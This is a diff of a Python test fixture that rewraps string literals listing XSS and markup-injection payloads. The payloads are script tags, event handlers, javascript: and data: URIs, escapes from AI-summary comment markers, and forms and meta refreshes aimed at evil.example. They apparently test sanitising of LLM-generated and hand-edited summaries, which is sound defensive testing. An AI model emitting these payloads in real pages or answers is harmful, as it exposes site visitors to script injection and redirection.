@@ -115,15 +115,18 @@ LONG = {
 }
 
 LLM_ANSWERS: list[str] = [
-    "## Summary <script>alert('xss-llm-script')</script>\n\n<img src=x onerror=\"alert('xss-llm-img')\"> [click](javascript:alert('xss-llm-link'))",
+    "## Summary <script>alert('xss-llm-script')</script>\n\n<img src=x onerror=\"alert('xss-llm-img')\"> "
+    "[click](javascript:alert('xss-llm-link'))",
     "<iframe src=\"https://evil.example/\"></iframe><svg onload=alert('xss-llm-svg')></svg>\n\n**still here**",
     "<!-- ai-summary:end -->\n</details><script>alert('xss-llm-escape')</script>\n<!-- ai-summary:begin -->\ntext",
     "{{ config.site_name }} {% include 'x' %}\n\n---\ntitle: forged\n---\n",
-    "text before\n```\nunclosed fence\n<script>alert('xss-llm-fence')</script>\n\n# Top heading\n\n[ref]: javascript:alert('xss-llm-ref')\n\n[x][ref]",
+    "text before\n```\nunclosed fence\n<script>alert('xss-llm-fence')</script>\n\n# Top heading\n\n[ref]: "
+    "javascript:alert('xss-llm-ref')\n\n[x][ref]",
     'paragraph\n~~~\nunclosed tilde fence\n\n!!! danger "x"\n    admonition body\n\n??? note\n    details body\n\n=== "Tab"\n    tab body',
     '<div markdown="1">**md in html**</div> <p title="<!-- ai-summary:end -->">t</p> {: onclick="alert(\'xss-llm-attr\')" }',
     f'--8<-- "{SNIPPET_FILE}"\n\ntext\n--8<-- "{SNIPPET_FILE}"',
-    'zero\u200bwidth \u202eoverride\u202c <a href="jav&#x09;ascript:alert(\'xss-llm-tab\')">x</a> <a href="data:text/html,<script>alert(1)</script>">d</a>',
+    "zero\u200bwidth \u202eoverride\u202c <a href=\"jav&#x09;ascript:alert('xss-llm-tab')\">x</a> <a "
+    'href="data:text/html,<script>alert(1)</script>">d</a>',
     '<style>body{display:none}</style><form action="https://evil.example/"><input name=q></form><meta http-equiv=refresh content=0;url=https://evil.example/>',
     "Long answer. " * 20000,
 ]
@@ -153,7 +156,8 @@ HTML_BODIES: dict[str, str] = {
     "headings": "<h1>Top heading</h1><h2>kept words</h2><h6>deep</h6>",
     "foreign": '<p>kept words <![CDATA[<script>alert(1)</script>]]></p><math><mi xlink:href="javascript:alert(1)">x</mi></math>',
     "details": "<details open ontoggle=alert('xss-html-toggle')><summary>kept words</summary>inside</details>",
-    "template": '<p>kept words</p><template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "template": '<p>kept words</p><template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x '
+    'onerror=alert(1)>"></noscript>',
 }
 """Hand-edited summary bodies in HTML (a v1 summary `migrate` keeps as HTML is one): each starts with a block
 element, so the site reads it as HTML (generator.text.markdown.is_html_body), and each keeps the words `kept words`."""
